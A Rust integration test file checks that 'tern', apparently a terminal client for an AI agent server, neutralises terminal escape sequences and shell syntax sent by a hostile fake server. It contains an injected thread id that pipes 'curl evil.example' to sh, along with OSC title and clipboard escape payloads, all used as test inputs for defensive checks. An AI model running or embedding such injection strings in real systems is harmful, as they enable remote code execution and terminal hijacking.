//! The real tern binary against the hostile fake app-server: escape payloads (OSC 0/2 titles,
//! OSC 52 clipboard, CSI clear screen, DCS, C1 controls, bidi overrides) in every field tern
//! shows never reach the terminal, on screen or in what is printed after exit. Each test scans
//! the raw bytes tern wrote to the pseudo-terminal (`fake_server::leaked`).

use crate::support::fake_server::{leaked, payload, step, FakeServer};
use crate::support::pty::PtySession;
use serde_json::{json, Value};
use std::time::Duration;

const WAIT: Duration = Duration::from_secs(20);
const SIZE: (u16, u16) = (110, 32);

fn assert_clean(tern: &PtySession) {
    let raw = tern.raw_output();
    let found = leaked(&raw);
    assert!(
        found.is_empty(),
        "payload bytes reached the terminal: {found:?}\nscreen:\n{}",
        tern.screen_text()
    );
}

/// Quits with Ctrl+C and returns everything tern wrote, after-exit printing included.
fn quit(tern: &mut PtySession) -> String {
    tern.send(b"\x03\x03\x03");
    tern.wait_exit(WAIT);
    String::from_utf8_lossy(&tern.raw_output()).into_owned()
}

fn turn_with(steps: Vec<Value>) -> Vec<Value> {
    let mut all = vec![step::wait("turn/start")];
    all.extend(steps);
    all.push(step::turn_completed());
    all
}

#[test]
fn session_model_and_cwd_are_sanitised_in_the_status_line() {
    let fake =
        FakeServer::new(&[json!({"vars": {"model": payload("MODEL"), "cwd": payload("CWD")}})]);
    let mut tern = fake.spawn_tern(&[], SIZE);
    tern.wait_for_text("<MODEL", WAIT);
    tern.wait_for_text("<CWD", WAIT);
    assert_clean(&tern);
    quit(&mut tern);
    assert_clean(&tern);
}

#[test]
fn command_actions_are_sanitised_in_command_cells() {
    let actions = json!([
        {"type": "read", "command": "cat x", "name": payload("READ"), "path": "/x"},
        {"type": "listFiles", "command": "ls", "path": payload("LIST")},
        {"type": "search", "command": "rg q", "query": payload("QUERY"), "path": payload("IN")},
    ]);
    let item = |status: &str| {
        json!({"type": "commandExecution", "id": "cmd-1", "command": "/bin/bash -lc 'cat x'",
               "cwd": "/w", "processId": null, "source": "agent", "status": status,
               "commandActions": actions, "aggregatedOutput": if status == "completed" {
                   json!("output\n") } else { Value::Null },
               "exitCode": if status == "completed" { json!(0) } else { Value::Null },
               "durationMs": null})
    };
    let fake = FakeServer::new(&turn_with(vec![
        step::item("started", item("inProgress")),
        step::item("completed", item("completed")),
    ]));
    let mut tern = fake.spawn_tern(&[], SIZE);
    tern.wait_for_text("fake-model", WAIT);
    tern.send(b"run it\r");
    // Names of what the command does show their control characters as marks, as the
    // command itself does (issue 31 item 0): applied, never; dropped, never either.
    tern.wait_for_text("• Read", WAIT);
    tern.wait_for_text("<READ␛]0;PWNED-TITLE␇", WAIT);
    tern.wait_for_text("<LIST␛]0;PWNED-TITLE␇", WAIT);
    tern.wait_for_text("<QUERY␛]0;PWNED-TITLE␇", WAIT);
    assert_clean(&tern);
    quit(&mut tern);
    assert_clean(&tern);
}

#[test]
fn amendments_in_an_approval_prompt_show_their_controls_as_marks_and_it_is_answered() {
    let amendment = json!(["echo", payload("AMEND")]);
    let fake = FakeServer::new(&turn_with(vec![
        step::request(
            json!(7),
            "item/commandExecution/requestApproval",
            json!({"threadId": "{{thread}}", "turnId": "{{turn}}", "itemId": "cmd-1",
                   "reason": payload("REASON"),
                   "command": format!("echo '{}' more", payload("AMEND")),
                   "cwd": "/w",
                   "commandActions": [{"type": "read", "command": "cat", "name": payload("PREAD"), "path": "/p"}],
                   "proposedExecpolicyAmendment": amendment,
                   "availableDecisions": ["accept",
                       {"acceptWithExecpolicyAmendment": {"execpolicy_amendment": amendment}},
                       {"applyNetworkPolicyAmendment": {"network_policy_amendment":
                           {"host": payload("NET"), "action": "allow"}}},
                       "cancel"]}),
        ),
        json!({"wait_response": 7}),
    ]));
    let mut tern = fake.spawn_tern(&[], SIZE);
    tern.wait_for_text("fake-model", WAIT);
    tern.send(b"approve something\r");
    // A prefix holding control characters is never offered (the shell parser refuses such
    // words); the reason shows them as marks. An option label shows the host's as marks.
    tern.wait_for_text("Not offered: a rule for `echo", WAIT);
    tern.wait_for_text("network access to <NET␛]0;PWNED", WAIT);
    assert_clean(&tern);
    tern.send(b"c");
    let answer = fake.wait_recorded("the answer to request 7", WAIT, |l| {
        l.contains("\"id\":7") && l.contains("result")
    });
    assert!(answer.contains("cancel"), "{answer}");
    quit(&mut tern);
    assert_clean(&tern);
}

#[test]
fn errors_from_the_server_are_sanitised() {
    let fake = FakeServer::new(&[
        step::wait("turn/start"),
        step::notify(
            "error",
            json!({"threadId": "{{thread}}", "turnId": "{{turn}}", "willRetry": false,
                   "error": {"message": payload("ERR"), "additionalDetails": payload("DETAIL")}}),
        ),
        step::notify(
            "turn/completed",
            json!({"threadId": "{{thread}}", "turn": {"id": "{{turn}}", "items": [],
                   "status": "failed", "error": {"message": payload("FAILED")}, "durationMs": 1}}),
        ),
    ]);
    let mut tern = fake.spawn_tern(&[], SIZE);
    tern.wait_for_text("fake-model", WAIT);
    tern.send(b"fail please\r");
    tern.wait_for_text("<ERR", WAIT);
    assert_clean(&tern);
    quit(&mut tern);
    assert_clean(&tern);
}

#[test]
fn the_servers_stderr_and_death_are_sanitised_on_screen_and_after_exit() {
    let fake = FakeServer::new(&[
        step::wait("turn/start"),
        json!({"stderr": format!("{}\n", payload("STDERR"))}),
        json!({"exit": 9}),
    ]);
    let mut tern = fake.spawn_tern(&[], SIZE);
    tern.wait_for_text("fake-model", WAIT);
    tern.send(b"die\r");
    tern.wait_for_text("<STDERR", WAIT);
    assert_clean(&tern);
    let out = quit(&mut tern);
    let after = &out[out.rfind("\x1b[?1049l").expect("left the alternate screen")..];
    assert!(
        after.contains("<STDERR"),
        "the failure is printed after exit: {after:?}"
    );
    assert_clean(&tern);
}

#[test]
fn agent_text_and_the_copy_printed_after_exit_are_sanitised() {
    let fake = FakeServer::new(&turn_with(vec![step::agent_message(
        "msg-1",
        &format!("first {}\nsecond line", payload("AGENT")),
    )]));
    // --print-copied: the copied text itself is printed after exit too.
    let mut tern = fake.spawn_tern(&["--print-copied"], SIZE);
    tern.wait_for_text("fake-model", WAIT);
    tern.send(b"say it\r");
    tern.wait_for_text("<AGENT", WAIT);
    tern.send(b"/copy\r");
    tern.wait_for_text("Copied the last answer", WAIT);
    let out = quit(&mut tern);
    let after = &out[out.rfind("\x1b[?1049l").expect("left the alternate screen")..];
    assert!(
        after.contains("first <AGENT"),
        "the copy is printed: {after:?}"
    );
    assert!(after.contains("second line"));
    assert_clean(&tern);
}

#[test]
fn thread_names_are_sanitised_in_the_transcript_and_the_picker() {
    let named = json!({"id": "thr-named", "preview": payload("PREVIEW"), "cwd": "{{cwd}}",
                       "model": "m", "createdAt": 1795962301, "updatedAt": 1795962301,
                       "status": {"type": "idle"}, "turns": [], "name": payload("NAME"),
                       "gitInfo": {"branch": payload("BRANCH")}});
    // The rename goes out once the list is answered (the fake answers a request before a wait
    // sees it), while the picker is open. tern applies an answer and a notification on
    // separate paths (the answer through the task that awaited it), so either can land last:
    // the picker shows the listed name or the new one, both hostile. (Waiting for one of them
    // failed under load.)
    let fake = FakeServer::new(&[
        json!({"on": "thread/list", "reply": {"data": [named], "nextCursor": null,
                                              "backwardsCursor": null}}),
        step::wait("thread/list"),
        step::notify(
            "thread/name/updated",
            json!({"threadId": "thr-named", "threadName": payload("RENAMED")}),
        ),
    ]);
    let mut tern = fake.spawn_tern(&["resume"], SIZE);
    tern.wait_for("the listed thread, by either name", WAIT, |s| {
        (s.contains("<NAME") || s.contains("<RENAMED")) && s.contains("<BRANCH")
    });
    assert_clean(&tern);
    quit(&mut tern);
    assert_clean(&tern);
}

#[test]
fn a_thread_id_with_shell_syntax_is_printed_shell_quoted_after_exit() {
    let id = "0b1d; curl evil.example | sh #";
    let fake = FakeServer::new(&[json!({"vars": {"thread": id}})]);
    let mut tern = fake.spawn_tern(&[], SIZE);
    tern.wait_for_text("fake-model", WAIT);
    let out = quit(&mut tern);
    let after = &out[out.rfind("\x1b[?1049l").unwrap()..];
    assert!(
        after.contains("tern resume '0b1d; curl evil.example | sh #'"),
        "the id is quoted for the shell: {after:?}"
    );
    assert!(!after.contains("tern resume 0b1d;"), "{after:?}");
}

#[test]
fn a_thread_id_holding_escapes_is_not_printed_and_the_reason_is() {
    let fake = FakeServer::new(&[json!({"vars": {"thread": payload("ID")}})]);
    let mut tern = fake.spawn_tern(&[], SIZE);
    tern.wait_for_text("fake-model", WAIT);
    let out = quit(&mut tern);
    let after = &out[out.rfind("\x1b[?1049l").unwrap()..];
    assert!(!after.contains("tern resume <ID"), "{after:?}");
    assert!(after.contains("control characters"), "{after:?}");
    assert_clean(&tern);
}

fn ended_by(signal: i32) -> (u32, PtySession) {
    let fake = FakeServer::new(&[]);
    let mut tern = fake.spawn_tern(&[], SIZE);
    tern.wait_for_text("fake-model", WAIT);
    let pid = tern.pid().expect("tern's pid") as i32;
    // SAFETY: signalling the tern process this test started.
    assert_eq!(unsafe { libc::kill(pid, signal) }, 0);
    let code = tern.wait_exit_code(WAIT);
    (code, tern)
}

#[test]
fn sigterm_sighup_and_sigint_exit_with_128_plus_the_signal_and_the_terminal_restored() {
    for signal in [libc::SIGTERM, libc::SIGHUP, libc::SIGINT] {
        let (code, tern) = ended_by(signal);
        assert_eq!(
            code,
            128 + signal as u32,
            "exit status after signal {signal}"
        );
        assert!(!tern.alternate_screen(), "the alternate screen was left");
        assert!(!tern.cursor_hidden(), "the cursor is shown again");
        let raw = String::from_utf8_lossy(&tern.raw_output()).into_owned();
        assert!(
            raw.contains("To continue it: tern resume thr-fake"),
            "the hint is printed"
        );
    }
}

#[test]
fn a_prompt_from_another_thread_says_whose_it_is() {
    let approval = |id: i64, thread: &str, command: &str| {
        step::request(
            json!(id),
            "item/commandExecution/requestApproval",
            json!({"threadId": thread, "turnId": "{{turn}}", "itemId": command,
                   "command": command, "cwd": "/w", "availableDecisions": ["accept", "cancel"]}),
        )
    };
    let fake = FakeServer::new(&turn_with(vec![
        approval(1, "{{thread}}", "echo ours"),
        json!({"wait_response": 1}),
        approval(2, &format!("sub-agent{}", payload("SUB")), "echo theirs"),
        json!({"wait_response": 2}),
    ]));
    let mut tern = fake.spawn_tern(&[], SIZE);
    tern.wait_for_text("fake-model", WAIT);
    tern.send(b"go\r");
    tern.wait_for_text("echo ours", WAIT);
    assert!(!tern.screen_text().contains("From another thread"));
    tern.send(b"y");
    // A thread neither shown nor an agent of it: its question waits in the inbox, off screen.
    tern.wait_for_text("waiting: 1", WAIT);
    assert!(!tern.screen_text().contains("echo theirs"));
    tern.send(b"\x14");
    tern.wait_for_text("echo theirs", WAIT);
    tern.wait_for_text("From another thread (sub-agent<SUB␛]0;PWNED", WAIT);
    assert_clean(&tern);
    tern.send(b"y");
    fake.wait_recorded("the answer to the other thread's prompt", WAIT, |l| {
        l.contains("\"id\":2,") && l.contains("accept")
    });
    quit(&mut tern);
}
